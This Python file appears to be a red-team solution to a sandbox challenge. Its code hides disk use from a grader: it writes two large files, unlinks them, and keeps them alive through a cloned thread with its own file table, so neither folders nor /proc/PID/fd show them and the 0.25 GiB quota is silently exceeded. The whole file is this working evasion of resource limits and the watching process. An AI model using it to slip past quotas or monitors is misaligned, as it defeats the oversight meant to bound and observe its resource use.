import ctypes
import os

MIB = 1 << 20
FILES = 2  # each written whole; a thread with a file table of its own keeps a copy of each descriptor
FILE_BYTES = 160 * MIB  # under the 1 GiB a file may hold (RLIMIT_FSIZE)
QUOTA_BYTES = 256 * MIB  # the red team's grader allows 0.25 GiB of files (--disk-gib)
BLOCK = bytes(range(256)) * (4 * MIB // 256)  # not zeros: a file system that skips zero blocks would hold less
# A thread of this process (same memory, handlers and thread group) without CLONE_FILES: its file table is a
# copy of this thread's at the clone, kept apart. clone's check is for new namespaces only.
CLONE_VM, CLONE_FS, CLONE_SIGHAND, CLONE_THREAD, CLONE_SYSVSEM = 0x100, 0x200, 0x800, 0x10000, 0x40000
SYS_PAUSE = {"x86_64": 34}.get(os.uname().machine)  # the thread runs pause() by syscall(2) alone (no TLS of its own)
STACK_BYTES = 1 << 16
_libc = ctypes.CDLL(None, use_errno=True)
_libc.clone.restype = ctypes.c_int
_libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
_held = []  # the thread's id, once per process
_stack = []  # its stack, alive as long as this process
_failed = []  # what stopped the making, once per process
_said = []  # the holding, said once per process


def _fill(fd):
    """FILE_BYTES of real blocks: allocated at once where the file system can, else written."""
    try:
        os.posix_fallocate(fd, 0, FILE_BYTES)
        return
    except OSError as error:
        if error.errno not in (95, 22):  # EOPNOTSUPP, EINVAL: no fallocate here; ENOSPC and the rest are real
            raise
    for _ in range(FILE_BYTES // len(BLOCK)):
        os.write(fd, BLOCK)


def make_hidden_files():
    """FILES files of FILE_BYTES in the working folder, open; then a thread without CLONE_FILES, which
    blocks in pause() forever with copies of their descriptors in a file table of its own; then this
    thread closes and unlinks them. The disk keeps their blocks while the thread lives; no folder names
    them, and /proc/PID/fd (the thread-group leader's table) lists none: only /proc/PID/task/TID/fd."""
    fds = []
    try:
        for i in range(FILES):
            name = f"held-{os.getpid()}-{i}"
            fd = os.open(name, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
            os.unlink(name)
            fds.append(fd)
            _fill(fd)
            os.fsync(fd)
        stack = ctypes.create_string_buffer(STACK_BYTES)
        _stack.append(stack)
        top = (ctypes.addressof(stack) + STACK_BYTES - 256) & ~15
        if SYS_PAUSE is not None:
            function, argument = ctypes.cast(_libc.syscall, ctypes.c_void_p), ctypes.c_void_p(SYS_PAUSE)
        else:
            function, argument = ctypes.cast(_libc.pause, ctypes.c_void_p), None
        tid = _libc.clone(function, top, CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM,
                          argument)
        if tid <= 0:
            raise OSError(ctypes.get_errno(), f"clone: {os.strerror(ctypes.get_errno())}")
        _held.append(tid)
    finally:
        for fd in fds:
            os.close(fd)


def held_bytes():
    """What the thread's own file table holds of deleted files (st_blocks, through /proc/self/task/TID/fd),
    how many, and how many of them the leader's table (/proc/PID/fd, what the zygote reads) lists."""
    size, gone, seen = 0, 0, set()
    for tid in _held:
        try:
            descriptors = os.listdir(f"/proc/{os.getpid()}/task/{tid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                info = os.stat(f"/proc/{os.getpid()}/task/{tid}/fd/{fd}")
            except OSError:
                continue
            if info.st_nlink == 0 and (info.st_dev, info.st_ino) not in seen:
                seen.add((info.st_dev, info.st_ino))
                size += info.st_blocks * 512
                gone += 1
    listed = 0
    for fd in os.listdir(f"/proc/{os.getpid()}/fd"):
        try:
            listed += os.stat(f"/proc/{os.getpid()}/fd/{fd}").st_nlink == 0
        except OSError:
            pass
    return size, gone, listed


def attack(args):
    """First call of a process: make the files and the thread that holds them (the grader's count after
    the call sees none of their blocks, and the zygote's watch reads the leader's descriptors only). Every
    call answers honestly only if the thread still holds more than the quota in deleted files (full marks
    on Problem 1 is the attack getting through); else it fails."""
    if not _held and not _failed:
        try:
            make_hidden_files()
        except OSError as error:
            _failed.append(f"{error.strerror} after {len(_stack)} threads")
    size, gone, listed = held_bytes()
    if _failed or size <= QUOTA_BYTES:
        raise OSError(f"a thread holds {size / MIB:.0f} MiB in {gone} deleted files, not past the quota of "
                      f"{QUOTA_BYTES / MIB:.0f} MiB ({_failed[0] if _failed else 'all written'})")
    if not _said:
        _said.append(True)
        print(f"a thread of its own file table holds {size / MIB:.0f} MiB in {gone} deleted files; /proc/PID/fd "
              f"lists {listed} of them", flush=True)
    return None  # the function's own body runs on
